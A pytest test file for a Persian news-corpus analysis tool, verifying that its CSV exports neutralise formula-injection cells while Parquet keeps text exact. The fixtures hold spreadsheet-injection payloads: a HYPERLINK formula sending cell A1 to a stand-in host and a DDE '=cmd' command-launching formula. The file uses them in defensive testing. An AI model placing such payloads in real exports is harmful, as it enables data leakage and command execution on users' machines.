"""Spreadsheet-safe CSV exports: no cell of any CSV the command line writes starts with a formula
character, whatever the titles and categories of the corpus; Parquet keeps the text exact."""

from __future__ import annotations

import csv
import shutil
import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.cli import main
from analysis._core.exports import FORMULA_STARTS, atomic_output, safe_cell, spreadsheet_safe, write_csv

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "کلیک کنید")', "=cmd|' /C calc'!A1", "+1", "@x", "-2+3",
           "\t=1+1", "\r=1"]
TEXT = ("سازمان بسیج کارگری شهرستان شاهرود نمایشگاهی از دست‌ساخته‌های کارگران برپا کرد. مسئول بسیج "
        "کارگری در این مراسم گفت این نمایشگاه با هدف معرفی توانمندی‌های کارگران برگزار شده است.")


def hostile_article(title: str, category: str, site: str, day: int) -> str:
    return (f"## {title}\n\nتاریخ انتشار: ۱۴۰۲/۰۵/{day:02d} - ۱۰:۳۰\n\n{TEXT}\n\n{TEXT} {title}\n\n"
            f"**دسته بندی: [{category}](#), [@SUM(A1)](#)**\n\nhttp://{site}.basij.ir/node/{day}\n")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, demo_dir):
    """Part of the demo corpus plus articles whose titles and categories are spreadsheet formulas, each
    republished on three sites, and a zip whose empty member's name is a formula."""
    root = tmp_path_factory.mktemp("hostile") / "corpus"
    root.mkdir()
    for path in sorted(demo_dir.rglob("*.txt"))[:80]:
        shutil.copy(path, root / f"demo-{path.name}")
    for i, title in enumerate(HOSTILE):
        for site in ("semnan", "tehran", "qom"):
            (root / f"{site}-{i}.txt").write_text(hostile_article(title, HOSTILE[-1 - i], site, i + 1),
                                                  encoding="utf-8")
    with zipfile.ZipFile(root / "bad.zip", "w") as archive:
        archive.writestr("=cmd|calc!A1.txt", "")
    return root


def formula_cells(folder) -> list[tuple[str, str]]:
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                found += [(path.name, cell) for cell in row if cell.startswith(FORMULA_STARTS)]
    return found


def test_safe_cell_rule():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("\t=x") == "'\t=x"
    assert safe_cell("عنوان") == "عنوان" and safe_cell(-3) == -3 and safe_cell(None) is None


@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_spreadsheet_safe_property(values):
    table = pd.DataFrame({"text": pd.array(values, dtype="string"), "n": range(len(values))})
    safe = spreadsheet_safe(table)
    for before, after in zip(values, safe["text"]):
        assert not str(after).startswith(FORMULA_STARTS)
        assert after == (("'" + before) if before.startswith(FORMULA_STARTS) else before)
    assert safe["n"].tolist() == list(range(len(values)))  # numbers untouched
    assert table["text"].tolist() == values  # the input is not changed


def test_categorical_and_mixed_columns(tmp_path):
    table = pd.DataFrame({"c": pd.Categorical(["=x", "y"]), "m": pd.Series([["=a"], "+b"], dtype=object),
                          "n": pd.Series([1, -2], dtype=object)})
    write_csv(table, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == ["c,m,n", "'=x,['=a'],1", "y,'+b,-2"]


def test_column_names_are_neutralised(tmp_path):
    write_csv(pd.DataFrame({"=A1": ["x"], "ok": [-1.5]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == ["'=A1,ok", "x,-1.5"]


def test_atomic_output_leaves_no_partial_file(tmp_path):
    (tmp_path / "t.csv").write_text("earlier\n")
    with pytest.raises(RuntimeError):
        with atomic_output(tmp_path / "t.csv") as partial:
            partial.write_text("half")
            raise RuntimeError("disk full")
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"] and (tmp_path / "t.csv").read_text() == "earlier\n"


@pytest.mark.slow
def test_no_cli_export_starts_with_a_formula(corpus, tmp_path):
    out = tmp_path / "out"
    assert main(["ingest", str(corpus), "--out", str(out / "ingest" / "articles.parquet"), "--no-progress"]) == 0
    assert main(["patterns", str(corpus), "--out", str(out / "patterns"), "--no-progress"]) == 0
    assert main(["topics", str(corpus), "--k", "4", "--out", str(out / "topics")]) == 0
    assert main(["entities", str(corpus), "--out", str(out / "entities")]) == 0
    assert main(["ingest-dataset", str(corpus), "--out", str(out / "dataset"), "--workers", "1",
                 "--no-progress"]) == 0
    assert main(["analyse-dataset", str(out / "dataset"), "--out", str(out / "analyses"), "--no-progress",
                 "--analyses", "category-share", "republication"]) == 0
    written = {p.relative_to(out).as_posix() for p in out.rglob("*.csv")}
    for expected in ("ingest/articles.rejects.csv", "patterns/category_share.csv",
                     "patterns/republication_copies.csv", "topics/dominant_topics.csv", "entities/mentions.csv",
                     "dataset/rejects.csv", "analyses/category_share_site.csv", "analyses/republication_copies.csv"):
        assert expected in written
    assert formula_cells(out) == []
    # the hostile text did reach the exports (normalised, as the commands read it), neutralised
    share = pd.read_csv(out / "patterns" / "category_share.csv", dtype=str)
    assert share["category"].str.startswith("'=cmd|").any() and share["category"].str.startswith("'@").any()
    copies = (out / "patterns" / "republication_copies.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in copies
    rejects = pd.read_csv(out / "ingest" / "articles.rejects.csv", dtype=str, keep_default_na=False)
    assert "'=cmd|calc!A1.txt" in rejects["member"].tolist()
    # Parquet keeps the text exact
    table = pd.read_parquet(out / "ingest" / "articles.parquet")
    assert set(HOSTILE[:5]) <= set(table["title"])
    assert any("=cmd|' /C calc'!A1" in cats for cats in table["categories"])
